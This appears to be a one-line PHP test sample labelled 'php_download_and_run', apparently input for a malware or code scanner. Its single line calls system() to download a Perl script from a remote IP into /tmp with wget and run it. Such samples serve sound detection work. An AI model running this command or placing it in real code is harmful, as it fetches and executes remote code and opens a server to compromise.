<?php
// want: php_download_and_run
system('cd /tmp; wget http://203.0.113.9/b.pl -O b.pl; perl b.pl');
